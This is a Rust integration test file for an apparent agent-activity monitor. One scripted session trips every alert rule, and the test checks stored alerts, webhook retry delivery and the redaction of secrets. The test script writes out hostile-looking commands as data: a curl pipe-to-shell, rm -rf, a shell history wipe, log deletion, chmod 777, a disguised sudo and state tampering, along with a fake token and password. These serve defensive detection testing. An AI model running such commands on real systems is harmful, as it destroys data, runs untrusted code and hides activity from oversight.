//! Root integration tests of sensitive-data marking and alerts: a real daemon with a config of
//! short windows, a real tagged session that trips each built-in rule once, and a webhook
//! server on loopback that is down at first. Asserts what `alerts --json` stored, that the
//! webhook got every alert once it came back, and that capture went on while it was down.

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use integration_tests::{json_lines, scratch, strs, wait_for, Daemon};
use serde_json::Value;

/// An HTTP endpoint that answers 503 while down and 200 while up, keeping the bodies it took.
struct Webhook {
    port: u16,
    up: Arc<AtomicBool>,
    got: Arc<Mutex<Vec<Value>>>,
}

impl Webhook {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind webhook");
        let port = listener.local_addr().expect("addr").port();
        let up = Arc::new(AtomicBool::new(false));
        let got: Arc<Mutex<Vec<Value>>> = Arc::default();
        let (u, g) = (up.clone(), got.clone());
        std::thread::spawn(move || {
            for conn in listener.incoming().flatten() {
                let mut r = BufReader::new(conn.try_clone().expect("clone"));
                let mut len = 0;
                let mut line = String::new();
                while r.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
                    if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                        len = v.trim().parse().unwrap_or(0);
                    }
                    line.clear();
                }
                let mut body = vec![0; len];
                if r.read_exact(&mut body).is_err() {
                    continue;
                }
                let mut w = conn;
                if u.load(Ordering::SeqCst) {
                    g.lock().expect("got").push(serde_json::from_slice(&body).expect("webhook body is JSON"));
                    let _ = w.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
                } else {
                    let _ = w.write_all(
                        b"HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                    );
                }
            }
        });
        Self { port, up, got }
    }
}

fn write(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
}

#[tokio::test(flavor = "multi_thread")]
async fn each_built_in_rule_raises_one_stored_chained_alert_delivered_after_the_webhook_returns() {
    let dir = scratch("alerts");
    let hook = Webhook::start();
    let pid = std::process::id();
    let cfg = dir.join("agentmon.toml");
    write(
        &cfg,
        &format!(
            "[sensitive]\npaths = [\"{d}/vault/**\"]\n\n\
             [alerts]\nwebhook = \"http://127.0.0.1:{port}/hook/T0/B0/s3cr3t-token\"\nwebhook_retry_max = \"1s\"\n\
             allow_hosts = [\"10.0.0.0/8\"]\n\
             failure_spike = {{ count = 2, window = \"10m\", severity = \"high\" }}\n\
             unusual_activity = {{ factor = 2.0, window = \"10m\", baseline = \"1h\", min_actions = 10 }}\n\n\
             [[alerts.rule]]\nname = \"marker\"\nseverity = \"low\"\non = [\"exec\"]\ncommand = 'agentmon-alert-marker'\n",
            d = dir.display(),
            port = hook.port
        ),
    );
    let d = Daemon::start("alerts", &["--config", cfg.to_str().expect("utf8")]).await;
    let state = d.state_dir.display().to_string();
    std::fs::create_dir_all(dir.join("vault")).expect("vault");
    write(&dir.join("vault/token"), "not really a token\n");
    write(&dir.join(".env"), "X=1\n");
    // `./sudo true` runs env: argv[0] stays `./sudo`, as a real sudo's would.
    std::os::unix::fs::symlink("/usr/bin/env", dir.join("sudo")).expect("sudo link");
    write(&dir.join("run.sh"), "#!/bin/sh\n");
    let etc = format!("/etc/agentmon-alerts-{pid}");
    let log = format!("/var/log/agentmon-alerts-{pid}.log");
    let script = format!(
        "cat .env > /dev/null\n\
         cat vault/token > /dev/null\n\
         echo x > {etc}\n\
         touch /sys/agentmon-alerts-{pid} 2>/dev/null\n\
         rm -rf /var/lib/agentmon-alerts-missing-{pid}\n\
         sh -c 'curl -s http://127.0.0.1:9/ | sh'\n\
         chmod 777 run.sh\n\
         ./sudo true\n\
         sh -c 'history -c' 2>/dev/null\n\
         echo x > {log}\n\
         find {log} -delete\n\
         echo x > {state}/alerts-probe 2>/dev/null\n\
         perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => \"192.0.2.1:9\", Proto => \"udp\")'\n\
         perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => \"10.1.2.3:9\", Proto => \"udp\")'\n\
         /bin/false; /bin/false; /bin/false\n\
         echo agentmon-alert-marker > /dev/null; /bin/echo agentmon-alert-marker > /dev/null\n\
         exit 0\n"
    );
    write(&dir.join("agent.sh"), &script);
    let (id, out) = d.run_agent("alert-agent", &dir, &["/bin/sh", "agent.sh"]);
    let _ = std::fs::remove_file(&etc);
    let _ = std::fs::remove_file(format!("{state}/alerts-probe"));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // Capture and storage do not wait for the webhook, which is still down.
    let session = d.wait_session_end(&id);
    let want: BTreeSet<&str> = [
        "sensitive_data",
        "system_write",
        "denied",
        "recursive_delete",
        "pipe_to_shell",
        "chmod_777",
        "sudo",
        "history_wipe",
        "log_wipe",
        "tamper",
        "failure_spike",
        "unlisted_host",
        "unusual_activity",
        "marker",
    ]
    .into();
    let alerts = wait_for(30, "every rule's first alert stored", || {
        let a = json_lines(&d.cli(&["alerts", "--json", "--session", &id]));
        let rules: BTreeSet<String> = a.iter().map(|x| x["rule"].as_str().expect("rule").to_owned()).collect();
        want.iter().all(|w| rules.contains(*w)).then_some(a)
    });
    let rules: BTreeSet<&str> = alerts.iter().map(|a| a["rule"].as_str().expect("rule")).collect();
    assert_eq!(rules, want, "rules raised: {alerts:#?}");
    assert!(hook.got.lock().expect("got").is_empty(), "the webhook was down");
    let st = d.status();
    assert!(st["webhook_failures"].as_u64().expect("failures") > 0, "{st}");
    assert_eq!(st["webhook_delivered"], 0, "{st}");

    let by_rule = |r: &str| alerts.iter().filter(|a| a["rule"] == r).cloned().collect::<Vec<_>>();
    for a in &alerts {
        assert_eq!(a["session_id"], id.as_str(), "{a}");
        assert_eq!(a["agent"], "alert-agent", "{a}");
        assert!(a["count"].as_i64().expect("count") >= 1, "{a}");
        assert!(a["chain_seq"].as_i64().is_some(), "every alert is in the chain: {a}");
        assert!(!a["summary"].as_str().expect("summary").is_empty(), "{a}");
        assert!(
            !strs(&a["event_ids"]).is_empty()
                || ["failure_spike", "unusual_activity"].contains(&a["rule"].as_str().expect("rule")),
            "{a}"
        );
        assert!(
            ["info", "low", "medium", "high", "critical"].contains(&a["severity"].as_str().expect("severity")),
            "{a}"
        );
    }
    // One alert per rule and scope: the first now; repeats inside the window wait to be grouped.
    assert_eq!(by_rule("recursive_delete").len(), 1);
    assert_eq!(by_rule("recursive_delete")[0]["severity"], "critical");
    assert!(by_rule("recursive_delete")[0]["details"]["command"]
        .as_str()
        .expect("command")
        .contains("rm -rf /var/lib/agentmon-alerts-missing"));
    assert_eq!(by_rule("pipe_to_shell")[0]["details"]["command"], "sh -c curl -s http://127.0.0.1:9/ | sh");
    assert_eq!(by_rule("failure_spike")[0]["severity"], "high", "the configured severity");
    assert_eq!(by_rule("failure_spike")[0]["details"]["failed"], 3, "{:?}", by_rule("failure_spike"));
    assert_eq!(strs(&by_rule("failure_spike")[0]["action_ids"]).len(), 1, "the action that tipped it");
    assert_eq!(by_rule("marker")[0]["severity"], "low");
    let unusual = &by_rule("unusual_activity")[0];
    assert_eq!(
        (unusual["details"]["actions"].as_u64(), unusual["details"]["usual"].as_f64()),
        (Some(10), Some(0.0)),
        "{unusual}"
    );
    assert!(
        by_rule("system_write")[0]["details"]["path"].as_str().expect("path").starts_with(&etc),
        "{:?}",
        by_rule("system_write")
    );
    assert!(
        by_rule("log_wipe")[0]["details"]["path"].as_str().expect("path").starts_with(&log),
        "{:?}",
        by_rule("log_wipe")
    );
    assert_eq!(by_rule("tamper")[0]["severity"], "critical");
    let unlisted: Vec<String> =
        by_rule("unlisted_host").iter().map(|a| a["details"]["addr"].as_str().unwrap_or("").to_owned()).collect();
    assert_eq!(unlisted, ["192.0.2.1"], "10.1.2.3 is in allow_hosts");
    let sensitive: BTreeSet<String> =
        by_rule("sensitive_data").iter().filter_map(|a| a["details"]["path"].as_str().map(str::to_owned)).collect();
    assert!(sensitive.iter().any(|p| p.ends_with("/.env")), "{sensitive:?}");

    // Sensitive marking: the file entries, the actions and the session.
    assert_eq!(session["sensitive_data_accessed"], true, "{session}");
    assert!(session["alerts"].as_i64().expect("alerts on the session") >= want.len() as i64, "{session}");
    let sens = json_lines(&d.cli(&["actions", "--json", "--session", &id, "--sensitive"]));
    let cmds: Vec<String> = sens.iter().map(|a| a["command"].as_str().unwrap_or("").to_owned()).collect();
    assert!(cmds.iter().any(|c| c == "cat .env"), "{cmds:?}");
    assert!(cmds.iter().any(|c| c == "cat vault/token"), "[sensitive] paths: {cmds:?}");
    assert!(!cmds.iter().any(|c| c.starts_with("chmod")), "{cmds:?}");
    for a in &sens {
        assert_eq!(a["sensitive_data_accessed"], true, "{a}");
    }
    let all = d.actions(&id);
    let cat = all.iter().find(|a| a["command"] == "cat .env").expect("cat .env action");
    let files = cat["files"].as_array().expect("files");
    assert!(
        files.iter().any(|f| f["path"].as_str().is_some_and(|p| p.ends_with("/.env")) && f["sensitive"] == true),
        "{files:?}"
    );
    let chmod =
        all.iter().find(|a| a["command"].as_str().is_some_and(|c| c.starts_with("chmod"))).expect("chmod action");
    assert_eq!(chmod["sensitive_data_accessed"], false, "{chmod}");

    // The webhook comes back: every stored alert arrives, once, with the same content.
    hook.up.store(true, Ordering::SeqCst);
    let n = json_lines(&d.cli(&["alerts", "--json", "--session", &id])).len();
    wait_for(30, "the webhook to get every alert", || (hook.got.lock().expect("got").len() >= n).then_some(()));
    let got = hook.got.lock().expect("got").clone();
    let ids = |v: &[Value]| v.iter().map(|a| a["id"].as_str().expect("id").to_owned()).collect::<BTreeSet<_>>();
    let stored = json_lines(&d.cli(&["alerts", "--json", "--session", &id]));
    assert_eq!(got.len(), ids(&got).len(), "no alert is delivered twice");
    assert_eq!(ids(&got), ids(&stored), "delivered and stored");
    for g in &got {
        let s = stored.iter().find(|s| s["id"] == g["id"]).expect("stored");
        for k in ["rule", "severity", "agent", "session_id", "summary", "count", "chain_seq"] {
            assert_eq!(g[k], s[k], "{k} of {g}");
        }
    }
    let st = d.status();
    assert_eq!(st["webhook_delivered"].as_u64(), Some(got.len() as u64), "{st}");
    // The log names the webhook by scheme and host; its path (a Slack webhook's secret) never.
    let log = d.log();
    assert!(log.contains(&format!("webhook=http://127.0.0.1:{}", hook.port)), "{log}");
    assert!(log.contains("could not deliver an alert"), "the failed deliveries are logged: {log}");
    assert!(!log.contains("s3cr3t") && !log.contains("/hook"), "the token path reached the log: {log}");
    assert_eq!(st["webhook_dropped"], 0, "{st}");
    assert!(st["alerts_raised"].as_u64().expect("raised") >= got.len() as u64, "{st}");

    // The filters, the table and the chain.
    let crit = json_lines(&d.cli(&["alerts", "--json", "--session", &id, "--severity", "critical"]));
    let crit_rules: BTreeSet<&str> = crit.iter().map(|a| a["rule"].as_str().expect("rule")).collect();
    assert_eq!(crit_rules, ["recursive_delete", "tamper"].into());
    let sudo = json_lines(&d.cli(&["alerts", "--json", "--rule", "sudo"]));
    assert!(!sudo.is_empty() && sudo.iter().all(|a| a["rule"] == "sudo"));
    let table = d.cli(&["alerts", "--session", &id]);
    let text = String::from_utf8_lossy(&table.stdout);
    assert!(table.status.success() && text.starts_with("TIME") && text.contains("recursive_delete"), "{text}");
    let verify = d.cli(&["verify"]);
    assert!(
        verify.status.success(),
        "verify: {}{}",
        String::from_utf8_lossy(&verify.stdout),
        String::from_utf8_lossy(&verify.stderr)
    );
    let bad = d.cli(&["alerts", "--severity", "urgent"]);
    assert_eq!(bad.status.code(), Some(2), "{}", String::from_utf8_lossy(&bad.stderr));
}

/// Issue 20, finding 2: an exec alert is built from the redacted argv. `sudo` with a password
/// flag and a GitHub token placed across the 200-character cut of an alert's summary raises the
/// `sudo` alert, and neither secret (nor the token's first characters) appears in the alert
/// rows, the webhook bodies, the daemon log or a dump of the database.
#[tokio::test(flavor = "multi_thread")]
async fn alerts_carry_no_secret_the_records_redact() {
    let dir = scratch("alert_secrets");
    let hook = Webhook::start();
    hook.up.store(true, Ordering::SeqCst);
    let cfg = dir.join("agentmon.toml");
    write(&cfg, &format!("[alerts]\nwebhook = \"http://127.0.0.1:{}/hook\"\n", hook.port));
    let mut d = Daemon::start("alert_secrets", &["--config", cfg.to_str().expect("utf8")]).await;
    // A `sudo` that is /bin/true: the rule matches the command, nothing runs as anyone else.
    std::os::unix::fs::symlink("/bin/true", dir.join("sudo")).expect("sudo");
    let token = "ghp_R8cQ1vX9mZ2kL7pW4nT6yB3hJ5sD0fGa1uE2";
    let pad = "x".repeat(170);
    let script = format!("./sudo -S --password 'correct horse battery staple' id; ./sudo env PAD={pad} {token} true");
    let (id, out) = d.run_agent("ops/secrets", &dir, &["/bin/sh", "-c", &script]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    d.wait_session_end(&id);
    let stored = json_lines(&d.cli(&["alerts", "--json", "--session", &id]));
    assert!(stored.iter().any(|a| a["rule"] == "sudo"), "{stored:#?}");
    wait_for(30, "the webhook to get the alerts", || {
        (hook.got.lock().expect("got").len() >= stored.len()).then_some(())
    });
    // The two `./sudo` execs repeat the rule within its window: their grouped alert (built from
    // the execs' own argv) is written when the daemon stops.
    d.stop();
    let stored = json_lines(&d.cli(&["alerts", "--json", "--session", &id]));
    let sudo: u64 = stored.iter().filter(|a| a["rule"] == "sudo").filter_map(|a| a["count"].as_u64()).sum();
    assert!(sudo >= 3, "the shell and both execs: {stored:#?}");

    let secrets = ["correct horse battery staple", "horse battery", token, &token[..12]];
    let leaked = |text: &str| secrets.iter().filter(|s| text.contains(**s)).copied().collect::<Vec<&str>>();
    let rows: Vec<(String, String)> =
        sqlx::query_as("SELECT summary, details::text FROM alerts WHERE session_id::text = $1")
            .bind(&id)
            .fetch_all(&d.pool)
            .await
            .expect("alerts");
    assert!(!rows.is_empty());
    for (summary, details) in &rows {
        assert_eq!(leaked(summary), Vec::<&str>::new(), "secret in an alert summary: {summary}");
        assert_eq!(leaked(details), Vec::<&str>::new(), "secret in an alert's details: {details}");
    }
    assert!(rows.iter().any(|(s, _)| s.contains("[REDACTED:")), "the alert shows where a secret was: {rows:#?}");
    let bodies = serde_json::to_string(&*hook.got.lock().expect("got")).expect("json");
    assert_eq!(leaked(&bodies), Vec::<&str>::new(), "secret in a webhook body");
    assert_eq!(leaked(&d.log()), Vec::<&str>::new(), "secret in the daemon log");
    let dump = std::process::Command::new("pg_dump").arg("--dbname").arg(&d.db_url).output().expect("pg_dump");
    assert!(dump.status.success(), "pg_dump: {}", String::from_utf8_lossy(&dump.stderr));
    assert_eq!(leaked(&String::from_utf8_lossy(&dump.stdout)), Vec::<&str>::new(), "secret in the database");
}
